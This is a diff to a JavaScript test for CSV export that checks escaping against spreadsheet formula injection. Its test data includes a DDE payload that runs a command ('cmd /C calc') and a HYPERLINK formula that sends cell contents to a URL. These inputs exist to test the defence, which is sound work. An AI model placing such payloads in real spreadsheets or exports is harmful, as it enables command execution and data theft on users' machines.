@@ -204,16 +204,18 @@ describe('CSV', () => {
         { fullName: '\n=HYPERLINK("x")', code: '\uFF1D1+1', balance: 1 },
         { fullName: '\uFF0B1', code: '\uFF20SUM(A1)', balance: 2 },
         { fullName: '\uFF0D2', code: ' =1+1', balance: 3 },
+        { fullName: "x;=cmd|' /C calc'!A0", code: 'a\t=1+1', balance: 4 },
       ],
     );
     expect(csv.slice(1).split('\r\n')).toEqual([
       'fullName,code,balance',
       `"'=HYPERLINK(""http://127.0.0.1:6199/?""&B2,""click"")",0061234508,-5`,
       "'+1+1,'@SUM(A1),0",
-      "'-2,'\tx,",
+      `'-2,"'\tx",`,
       `"'\n=HYPERLINK(""x"")",'\uFF1D1+1,1`,
       "'\uFF0B1,'\uFF20SUM(A1),2",
       "'\uFF0D2, =1+1,3",
+      `"x;=cmd|' /C calc'!A0","a\t=1+1",4`,
       '',
     ]);
   });
